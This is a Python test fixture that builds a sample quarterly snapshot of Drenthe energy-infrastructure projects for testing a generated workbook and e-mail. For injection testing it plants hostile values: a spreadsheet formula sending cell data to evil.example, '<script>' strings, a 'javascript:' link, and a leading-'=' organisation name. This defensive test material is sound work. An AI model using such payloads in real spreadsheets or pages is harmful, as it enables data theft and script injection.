"""A fixed, rich portfolio snapshot (`Overzicht`) shared by the tests of everything built from one.

The master workbook's committed reference file (tests/reference/master_reference.xlsx) is
generated from `sample_overzicht()` by scripts/update_master_reference.py, and the quarterly
e-mail's tests reuse it. Change it knowingly: the reference must then be regenerated.

What it holds, on purpose:
- concrete projects of every light: Op planning, Risico op vertraging, Vertraagd, Onbekend and
  Gerealiseerd; electricity and hydrogen (only electricity can be a plusproject);
- verkenningen: on schedule, running late (plusprojecten), Onbekend;
- trends against the previous quarter: nieuw, verslechterd, verbeterd, gelijk, gerealiseerd;
- milestones (one with a hand-set light), knelpunten with oplossingen, eigenaar and status;
- project teams with explicit hours and the 3/2 norm, and one team without a voorzitter
  (Zeijerveen 2) that no data-quality entry mentions yet: the master must notice it itself;
- data-quality entries of every kind, history over five quarters including a project whose
  fiche was deleted (Waterstof in Coevorden);
- hostile text: a knelpunt starting with "=HYPERLINK(", a toelichting and an oplossing holding
  "<script>", a fiche link with a "javascript:" scheme, an organisation starting with "=" and
  a control character (illegal in XML) in a milestone toelichting.

The light of every project and milestone is computed with the core rule (fiche.stoplicht), so
the sample never claims a light its own dates contradict.
"""

from __future__ import annotations

import datetime as dt
from typing import Any
from urllib.parse import quote

from fiche.schema import energiecluster
from fiche.stoplicht import Stoplicht, mijlpaal_stoplicht, project_stoplicht
from sync.overzicht import DatakwaliteitMelding, Overzicht, ProjectStand

D = dt.date
UTC = dt.timezone.utc

PEILDATUM = D(2026, 9, 30)
#: Aware, as the service produces it; the workbook shows it in Europe/Amsterdam time (09:30).
GEGENEREERD = dt.datetime(2026, 10, 5, 7, 30, tzinfo=UTC)

HOSTILE_FORMULA = '=HYPERLINK("https://evil.example/steal?d="&A1,"Klik hier voor details")'
HOSTILE_SCRIPT = "<script>alert('pmiek')</script> Vergunning loopt"
HOSTILE_ORGANISATIE = "=1+1 Adviesbureau"
SHAREPOINT = "https://provinciedrenthe.sharepoint.com/sites/pmiek/Fiches/"

L = Stoplicht


def _team(*leden: tuple[str, str, str, float | None]) -> list[dict[str, Any]]:
    return [
        {"naam": naam, "organisatie": org, "rol": rol,
         "email": naam.lower().replace(" ", ".") + "@example.nl", "uren": uren}
        for naam, org, rol, uren in leden
    ]


def _mijlpalen(lo: D | None, hi: D | None, *rijen: dict[str, Any]) -> list[dict[str, Any]]:
    out = []
    for r in rijen:
        m = {"mijlpaal": None, "fase": None, "actiehouder": None, "gepland": None, "prognose": None,
             "gereed": None, "stoplicht_handmatig": None, "toelichting": None}
        m.update(r)
        berekend = mijlpaal_stoplicht(m["gepland"], m["prognose"], m["gereed"], lo, hi)
        m["stoplicht"] = Stoplicht.van_label(m["stoplicht_handmatig"]) or berekend
        out.append(m)
    return out


def _project(
    naam: str, fiche_type: str, drager: str, gemeente: str, *, netbeheerder: str | None,
    fase_nb: str | None, fase_ov: str | None, lo: D | None, hi: D | None, prognose: D | None,
    gerealiseerd: D | None = None, escalatie: str = "Geen", toelichting: str | None = None,
    peildatum: D | None, ontvangen: dt.datetime, bestand: str, link: str | None = "",
    onderzoeksvraag: str | None = None, vorig: Stoplicht | None = None, vorige_prognose: D | None = None,
    nieuwere_versie_ongeldig: bool = False, mijlpalen: list[dict[str, Any]] | None = None,
    knelpunten: list[dict[str, Any]] | None = None, team: list[dict[str, Any]] | None = None,
) -> ProjectStand:
    return ProjectStand(
        sleutel=" ".join(naam.lower().split()),
        fiche_type=fiche_type,
        projectnaam=naam,
        drager=drager,
        gemeente=gemeente,
        energiecluster=energiecluster(gemeente),
        netbeheerder=netbeheerder,
        fase_netbeheerder=fase_nb,
        fase_overheid=fase_ov,
        ondergrens=lo,
        bovengrens=hi,
        prognose=prognose,
        gerealiseerd=gerealiseerd,
        stoplicht=project_stoplicht(prognose, lo, hi, gerealiseerd),
        escalatie=escalatie,
        toelichting=toelichting,
        fiche_peildatum=peildatum,
        versie_ontvangen=ontvangen,
        bron_id="Fiches/" + bestand,
        bron_naam=bestand,
        link=SHAREPOINT + quote(bestand) if link == "" else link,
        onderzoeksvraag=onderzoeksvraag,
        vorig_stoplicht=vorig,
        vorige_prognose=vorige_prognose,
        nieuwere_versie_ongeldig=nieuwere_versie_ongeldig,
        mijlpalen=mijlpalen or [],
        knelpunten=knelpunten or [],
        projectteam=team or [],
    )


def _projecten() -> list[ProjectStand]:
    emmen_noord = _project(
        "Deelnet Emmen: nieuwbouw station Emmen Noord 110/20 kV", "concreet", "Elektriciteit", "Emmen",
        netbeheerder="Enexis / TenneT", fase_nb="Planuitwerkfase", fase_ov="Projectfase",
        lo=D(2031, 1, 1), hi=D(2033, 12, 31), prognose=D(2033, 6, 30), escalatie="WKI",
        toelichting="Vergunningprocedure loopt uit; grondverwerving nog niet rond.",
        peildatum=D(2026, 9, 25), ontvangen=dt.datetime(2026, 9, 26, 12, 5, tzinfo=UTC),
        bestand="Deelnet Emmen Noord.xlsx", vorig=L.OP_PLANNING, vorige_prognose=D(2031, 3, 31),
        mijlpalen=_mijlpalen(
            D(2031, 1, 1), D(2033, 12, 31),
            {"mijlpaal": "Voorkeursalternatief vastgesteld", "fase": "Verkenningsfase", "actiehouder": "Netbeheerder",
             "gepland": D(2025, 6, 30), "gereed": D(2025, 6, 15)},
            {"mijlpaal": "Ontwerp-projectbesluit ter inzage", "fase": "Planuitwerkfase",
             "actiehouder": "Bevoegd gezag", "gepland": D(2026, 12, 31), "prognose": D(2027, 9, 30),
             "toelichting": "Afhankelijk van grondverwerving."},
            {"mijlpaal": "Ingebruikname", "fase": "Realisatiefase", "actiehouder": "Netbeheerder",
             "gepland": D(2031, 1, 1), "prognose": D(2033, 6, 30)},
        ),
        knelpunten=[
            {"knelpunt": HOSTILE_FORMULA, "oplossing": "Bestuurlijk overleg met grondeigenaren via de gemeente.",
             "eigenaar": "Gemeente Emmen", "status": "In behandeling"},
            {"knelpunt": "Capaciteit vergunningverlening bij de gemeente.",
             "oplossing": "Inzet van de provinciale flexpool.", "eigenaar": "Provincie Drenthe", "status": "Opgelost"},
        ],
        team=_team(
            ("Anna de Vries", "Provincie Drenthe", "Voorzitter", None),
            ("Bram Jansen", "Enexis", "Deelnemer", None),
            ("Carla Smit", "TenneT", "Deelnemer", 4.0),
            ("Dirk Bakker", "Gemeente Emmen", "Deelnemer", None),
        ),
    )
    bargermeer = _project(
        "Deelnet Emmen: nieuwbouw station omgeving Emmen Bargermeer 110/20 kV", "concreet", "Elektriciteit",
        "Emmen", netbeheerder="Enexis / TenneT", fase_nb="Verkenningsfase", fase_ov="Projectfase",
        lo=D(2031, 1, 1), hi=D(2033, 12, 31), prognose=D(2034, 6, 30), escalatie="Energy Board",
        toelichting=HOSTILE_SCRIPT,
        peildatum=D(2026, 6, 20), ontvangen=dt.datetime(2026, 6, 21, 8, 0, tzinfo=UTC),
        bestand="Deelnet Emmen Bargermeer.xlsx", vorig=L.RISICO, vorige_prognose=D(2033, 9, 30),
        nieuwere_versie_ongeldig=True,
        mijlpalen=_mijlpalen(
            D(2031, 1, 1), D(2033, 12, 31),
            {"mijlpaal": "Locatiekeuze", "fase": "Verkenningsfase", "actiehouder": "Meerdere partijen",
             "gepland": D(2026, 3, 31), "prognose": D(2027, 6, 30), "toelichting": "Twee locaties\x07 in beeld."},
            {"mijlpaal": "Investeringsbesluit", "fase": "Projectfase", "actiehouder": "Netbeheerder",
             "gepland": D(2027, 12, 31), "prognose": D(2028, 12, 31), "stoplicht_handmatig": "Risico op vertraging",
             "toelichting": "Handmatig bijgesteld: besluit mogelijk eerder."},
        ),
        knelpunten=[
            {"knelpunt": "Locatie nog niet gekozen; Enexis nog in verkenning.",
             "oplossing": "Versnellingsatelier met Enexis, TenneT en gemeente.", "eigenaar": "Provincie Drenthe",
             "status": "Open"},
        ],
        team=_team(
            ("Anna de Vries", "Provincie Drenthe", "Voorzitter", None),
            ("Bram Jansen", "Enexis", "Deelnemer", None),
            ("Eva Mulder", "TenneT", "Deelnemer", None),
            ("Frank Visser", HOSTILE_ORGANISATIE, "Deelnemer", 1.5),
        ),
    )
    zeijerveen = _project(
        "Nieuwbouw station Assen Zeijerveen (Zeijerveen 2)", "concreet", "Elektriciteit", "Assen",
        netbeheerder="Enexis", fase_nb="Projectfase", fase_ov="Projectfase",
        lo=D(2034, 1, 1), hi=D(2035, 12, 31), prognose=D(2034, 3, 31),
        toelichting="Op schema; TenneT nog in verkenning.",
        peildatum=D(2026, 9, 1), ontvangen=dt.datetime(2026, 9, 2, 9, 45, tzinfo=UTC),
        bestand="Zeijerveen 2.xlsx", vorig=L.OP_PLANNING, vorige_prognose=D(2034, 3, 31),
        mijlpalen=_mijlpalen(
            D(2034, 1, 1), D(2035, 12, 31),
            {"mijlpaal": "Investeringsbesluit", "fase": "Projectfase", "actiehouder": "Netbeheerder",
             "gepland": D(2027, 6, 30), "prognose": D(2027, 6, 30)},
        ),
        # No voorzitter: the team lists only deelnemers.
        team=_team(
            ("Gert Hoekstra", "Enexis", "Deelnemer", None),
            ("Hanna Dijkstra", "Gemeente Assen", "Deelnemer", None),
        ),
    )
    backbone = _project(
        "Aftakking waterstofbackbone Emmen", "concreet", "Waterstof", "Emmen",
        netbeheerder="Gasunie", fase_nb="Realisatiefase", fase_ov="Realisatiefase",
        lo=D(2030, 1, 1), hi=D(2030, 12, 31), prognose=D(2030, 9, 30),
        toelichting="Aanbesteding leidingwerk later dan gepland.",
        peildatum=D(2026, 9, 28), ontvangen=dt.datetime(2026, 9, 29, 15, 20, tzinfo=UTC),
        bestand="Waterstofbackbone Emmen.xlsx", vorig=L.VERTRAAGD, vorige_prognose=D(2031, 3, 31),
        mijlpalen=_mijlpalen(
            D(2030, 1, 1), D(2030, 12, 31),
            {"mijlpaal": "Start bouw", "fase": "Realisatiefase", "actiehouder": "Netbeheerder",
             "gepland": D(2028, 1, 1), "prognose": D(2028, 9, 1)},
        ),
        knelpunten=[
            {"knelpunt": "Levertijd compressoren.", "oplossing": "Vroeg bestellen via raamcontract.",
             "eigenaar": "Gasunie", "status": "Open"},
        ],
        team=_team(
            ("Iris Kok", "Gasunie", "Voorzitter", None),
            ("Jan Bos", "Provincie Drenthe", "Deelnemer", 1.0),
            ("Dirk Bakker", "Gemeente Emmen", "Deelnemer", None),
        ),
    )
    hoogeveen_station = _project(
        "Uitbreiding station Hoogeveen 110/20 kV", "concreet", "Elektriciteit", "Hoogeveen",
        netbeheerder="Enexis", fase_nb="Realisatiefase", fase_ov="Realisatiefase",
        lo=D(2026, 4, 1), hi=D(2026, 12, 31), prognose=D(2026, 7, 15), gerealiseerd=D(2026, 7, 15),
        toelichting="In bedrijf genomen op 15 juli 2026.",
        peildatum=D(2026, 9, 15), ontvangen=dt.datetime(2026, 9, 15, 10, 0, tzinfo=UTC),
        bestand="Station Hoogeveen.xlsx", vorig=L.OP_PLANNING, vorige_prognose=D(2026, 7, 1),
        mijlpalen=_mijlpalen(
            D(2026, 4, 1), D(2026, 12, 31),
            {"mijlpaal": "Ingebruikname", "fase": "Realisatiefase", "actiehouder": "Netbeheerder",
             "gepland": D(2026, 7, 1), "gereed": D(2026, 7, 15)},
        ),
        team=_team(("Karin Meijer", "Enexis", "Voorzitter", None)),
    )
    coevorden_mst = _project(
        "MS-T verzwaring Coevorden - Dalen", "concreet", "Elektriciteit", "Coevorden",
        netbeheerder="RENDO", fase_nb="Projectfase", fase_ov=None,
        lo=D(2029, 1, 1), hi=D(2030, 12, 31), prognose=None,
        toelichting=None, peildatum=D(2026, 9, 10), ontvangen=dt.datetime(2026, 9, 10, 6, 30, tzinfo=UTC),
        bestand="MS-T Coevorden.xlsx", link="javascript:alert('pmiek')",
        team=_team(("Lars de Boer", "RENDO", "Voorzitter", None), ("Mila Peters", "Gemeente Coevorden", "Deelnemer", None)),
    )
    ww_hoogeveen = _project(
        "Waterstof in Hoogeveen", "verkenning", "Waterstof", "Hoogeveen",
        netbeheerder=None, fase_nb=None, fase_ov=None,
        lo=D(2026, 7, 1), hi=D(2026, 12, 31), prognose=D(2027, 3, 31), escalatie="WKI",
        toelichting="Onderzoek naar afnemers duurt langer.",
        peildatum=D(2026, 9, 20), ontvangen=dt.datetime(2026, 9, 21, 11, 0, tzinfo=UTC),
        bestand="Waterstof Hoogeveen.xlsx",
        onderzoeksvraag="Welke rol kan waterstof spelen in de industrie van Hoogeveen?",
        vorig=L.RISICO, vorige_prognose=D(2026, 12, 31),
        mijlpalen=_mijlpalen(
            D(2026, 7, 1), D(2026, 12, 31),
            {"mijlpaal": "Rapport vraag en aanbod", "fase": "Verkenningsfase", "actiehouder": "Gemeente",
             "gepland": D(2026, 6, 30), "prognose": D(2027, 2, 28)},
        ),
        knelpunten=[
            {"knelpunt": "Afnemers willen zich nog niet committeren.",
             "oplossing": HOSTILE_SCRIPT, "eigenaar": "Gemeente Hoogeveen", "status": "Open"},
        ],
        team=_team(("Nina Vos", "Gemeente Hoogeveen", "Voorzitter", None), ("Jan Bos", "Provincie Drenthe", "Deelnemer", None)),
    )
    elektrolyse = _project(
        "Onderzoek lokale elektrolyse", "verkenning", "Waterstof", "Meerdere gemeenten",
        netbeheerder="Enexis", fase_nb=None, fase_ov=None,
        lo=D(2027, 1, 1), hi=D(2027, 12, 31), prognose=D(2027, 3, 31),
        toelichting=None, peildatum=D(2026, 9, 30), ontvangen=dt.datetime(2026, 9, 30, 14, 0, tzinfo=UTC),
        bestand="Lokale elektrolyse.xlsx",
        onderzoeksvraag="Waar in Drenthe is lokale elektrolyse kansrijk?",
        vorig=L.ONBEKEND, vorige_prognose=None,
        team=_team(("Oscar Hendriks", "Provincie Drenthe", "Voorzitter", None), ("Bram Jansen", "Enexis", "Deelnemer", None)),
    )
    attero = _project(
        "Toepassing restwarmte Attero (Assen, Beilen, Hoogeveen)", "verkenning", "Warmte", "Meerdere gemeenten",
        netbeheerder=None, fase_nb=None, fase_ov=None,
        lo=D(2026, 10, 1), hi=D(2027, 6, 30), prognose=D(2027, 3, 31),
        toelichting="Businesscase wacht op warmtevraag gemeenten.",
        peildatum=D(2026, 9, 12), ontvangen=dt.datetime(2026, 9, 12, 16, 40, tzinfo=UTC),
        bestand="Restwarmte Attero.xlsx",
        onderzoeksvraag="Kan restwarmte van Attero rendabel worden benut?",
        vorig=L.OP_PLANNING, vorige_prognose=D(2026, 12, 31),
        team=_team(("Petra Schouten", "Provincie Drenthe", "Voorzitter", None), ("Quinten Bosch", "Attero", "Deelnemer", None),
                   ("Hanna Dijkstra", "Gemeente Assen", "Deelnemer", None)),
    )
    warmtebedrijf = _project(
        "Onderzoek oprichten regionaal warmtebedrijf", "verkenning", "Warmte", "Meerdere gemeenten",
        netbeheerder=None, fase_nb=None, fase_ov=None,
        lo=None, hi=None, prognose=None, toelichting="Planning nog niet bekend.",
        peildatum=D(2026, 3, 15), ontvangen=dt.datetime(2026, 3, 16, 9, 0, tzinfo=UTC),
        bestand="Regionaal warmtebedrijf.xlsx", link=None,
        onderzoeksvraag="Is een regionaal warmtebedrijf nodig en haalbaar?",
        vorig=L.ONBEKEND,
        team=_team(("Petra Schouten", "Provincie Drenthe", "Voorzitter", 2.0)),
    )
    return [emmen_noord, bargermeer, zeijerveen, backbone, hoogeveen_station, coevorden_mst,
            ww_hoogeveen, elektrolyse, attero, warmtebedrijf]


def _historie(projecten: list[ProjectStand]) -> dict[str, dict[str, Stoplicht]]:
    by_name = {p.projectnaam: p for p in projecten}
    eerder: dict[str, list[Stoplicht | None]] = {
        # 2025Q3, 2025Q4, 2026Q1 (then 2026Q2 = vorig_stoplicht, 2026Q3 = today)
        "Deelnet Emmen: nieuwbouw station Emmen Noord 110/20 kV": [L.OP_PLANNING, L.OP_PLANNING, L.OP_PLANNING],
        "Deelnet Emmen: nieuwbouw station omgeving Emmen Bargermeer 110/20 kV": [None, L.OP_PLANNING, L.RISICO],
        "Nieuwbouw station Assen Zeijerveen (Zeijerveen 2)": [L.ONBEKEND, L.OP_PLANNING, L.OP_PLANNING],
        "Aftakking waterstofbackbone Emmen": [L.RISICO, L.VERTRAAGD, L.VERTRAAGD],
        "Uitbreiding station Hoogeveen 110/20 kV": [L.RISICO, L.OP_PLANNING, L.OP_PLANNING],
        "Waterstof in Hoogeveen": [None, None, L.OP_PLANNING],
        "Onderzoek lokale elektrolyse": [None, None, L.ONBEKEND],
        "Toepassing restwarmte Attero (Assen, Beilen, Hoogeveen)": [L.OP_PLANNING, L.OP_PLANNING, L.OP_PLANNING],
        "Onderzoek oprichten regionaal warmtebedrijf": [None, L.ONBEKEND, L.ONBEKEND],
    }
    kwartalen = ["2025Q3", "2025Q4", "2026Q1"]
    historie: dict[str, dict[str, Stoplicht]] = {}
    for naam, lichten in eerder.items():
        p = by_name[naam]
        rij = {q: light for q, light in zip(kwartalen, lichten) if light is not None}
        if p.vorig_stoplicht is not None:
            rij["2026Q2"] = p.vorig_stoplicht
        rij["2026Q3"] = p.stoplicht
        historie[p.sleutel] = rij
    # The MS-T project is new this quarter: only today's light.
    mst = by_name["MS-T verzwaring Coevorden - Dalen"]
    historie[mst.sleutel] = {"2026Q3": mst.stoplicht}
    # A verkenning whose fiche was deleted in Q3: history stays, no current row.
    historie["waterstof in coevorden"] = {"2025Q4": L.OP_PLANNING, "2026Q1": L.RISICO, "2026Q2": L.RISICO}
    return historie


def _datakwaliteit() -> list[DatakwaliteitMelding]:
    return [
        DatakwaliteitMelding(
            "ongeldig", "Deelnet Emmen Bargermeer.xlsx",
            "Nieuwe versie afgekeurd: 'IBN bovengrens' ('31-13-2033') is geen bestaande datum. "
            "Het overzicht toont de laatste geldige versie van 21-6-2026.",
            project="Deelnet Emmen: nieuwbouw station omgeving Emmen Bargermeer 110/20 kV",
            sinds=dt.datetime(2026, 9, 29, 7, 12, tzinfo=UTC), bron_id="Fiches/Deelnet Emmen Bargermeer.xlsx",
            link=SHAREPOINT + quote("Deelnet Emmen Bargermeer.xlsx"),
        ),
        DatakwaliteitMelding(
            "verouderd", "Regionaal warmtebedrijf.xlsx",
            "Fiche niet bijgewerkt sinds peildatum 15-3-2026 (meer dan een kwartaal oud).",
            project="Onderzoek oprichten regionaal warmtebedrijf", sinds=dt.datetime(2026, 3, 16, 9, 0, tzinfo=UTC),
            bron_id="Fiches/Regionaal warmtebedrijf.xlsx",
        ),
        DatakwaliteitMelding(
            "dubbel", "Kopie van Waterstof Hoogeveen.xlsx",
            "Twee bestanden claimen project 'Waterstof in Hoogeveen': 'Waterstof Hoogeveen.xlsx' en "
            "'Kopie van Waterstof Hoogeveen.xlsx'. Alleen het eerste telt mee.",
            project="Waterstof in Hoogeveen", sinds=dt.datetime(2026, 9, 22, 10, 0, tzinfo=UTC),
            bron_id="Fiches/Kopie van Waterstof Hoogeveen.xlsx",
            link=SHAREPOINT + quote("Kopie van Waterstof Hoogeveen.xlsx"),
        ),
        DatakwaliteitMelding(
            "verwijderd", "Waterstof Coevorden.xlsx",
            "Fiche verwijderd uit de bibliotheek; het project staat niet meer in het overzicht.",
            project="Waterstof in Coevorden", sinds=dt.datetime(2026, 8, 3, 13, 0, tzinfo=UTC),
            bron_id="Fiches/Waterstof Coevorden.xlsx",
        ),
        DatakwaliteitMelding(
            "onleesbaar", "notities.xlsx",
            "Bestand is geen geldige Excel-werkmap en is overgeslagen.",
            sinds=dt.datetime(2026, 9, 30, 8, 0, tzinfo=UTC), bron_id="Fiches/notities.xlsx",
        ),
    ]


def _details(projecten: list[ProjectStand]) -> None:
    """Dependencies and agreements for the master's Projectdetails sheet: a concrete project
    answers three questions, a verkenning one."""
    by_name = {p.projectnaam: p for p in projecten}
    noord = by_name["Deelnet Emmen: nieuwbouw station Emmen Noord 110/20 kV"]
    noord.afhankelijkheden_infra = "Aansluiting op het 110 kV-station Bargermeer (zelfde deelnet)."
    noord.afhankelijkheden_sectoraal = "Woningbouw Emmen Noord en het bedrijventerrein Bargermeer."
    noord.uitvoeringsafspraken = "Bestuursovereenkomst gemeente Emmen, Enexis en TenneT (2025)."
    for p in projecten:
        if p.fiche_type == "verkenning" and p.onderzoeksvraag:
            p.afhankelijkheden = "Warmtevraag van de gemeenten en de landelijke subsidieregeling."
            break


def sample_overzicht() -> Overzicht:
    """The rich sample snapshot (a new object on every call: tests may change it)."""
    projecten = _projecten()
    _details(projecten)
    return Overzicht(
        peildatum=PEILDATUM,
        gegenereerd=GEGENEREERD,
        projecten=projecten,
        datakwaliteit=_datakwaliteit(),
        historie=_historie(projecten),
    )


def empty_overzicht() -> Overzicht:
    """No projects, no findings, no history: the first run on an empty library."""
    return Overzicht(peildatum=PEILDATUM, gegenereerd=GEGENEREERD, projecten=[])


def groot_overzicht(n: int) -> Overzicht:
    """A portfolio of `n` projects: the sample's ten in turn, each copy its own project (own name,
    sleutel and source file) with the sample's history and data-quality findings, so the e-mail
    sees n projects' worth of escalations, plusprojecten, changes and findings."""
    import dataclasses

    basis = sample_overzicht()
    projecten: list[ProjectStand] = []
    historie: dict[str, dict[str, Stoplicht]] = {}
    meldingen: list[DatakwaliteitMelding] = []
    for i in range(n):
        ronde, p = divmod(i, len(basis.projecten))
        bron = basis.projecten[p]
        naam = bron.projectnaam if ronde == 0 else f"{bron.projectnaam} ({ronde + 1})"
        kopie = dataclasses.replace(
            bron, projectnaam=naam, sleutel=" ".join(naam.lower().split()),
            bron_id=f"{bron.bron_id}#{ronde}", bron_naam=f"{ronde + 1} {bron.bron_naam}",
            mijlpalen=[dict(m) for m in bron.mijlpalen], knelpunten=[dict(k) for k in bron.knelpunten],
            projectteam=[dict(t) for t in bron.projectteam])
        projecten.append(kopie)
        if bron.sleutel in basis.historie:
            historie[kopie.sleutel] = dict(basis.historie[bron.sleutel])
        for m in basis.datakwaliteit:
            if m.project == bron.projectnaam:
                meldingen.append(dataclasses.replace(m, project=naam, bron_naam=f"{ronde + 1} {m.bron_naam}"))
    return Overzicht(peildatum=PEILDATUM, gegenereerd=GEGENEREERD, projecten=projecten,
                     datakwaliteit=meldingen, historie=historie)
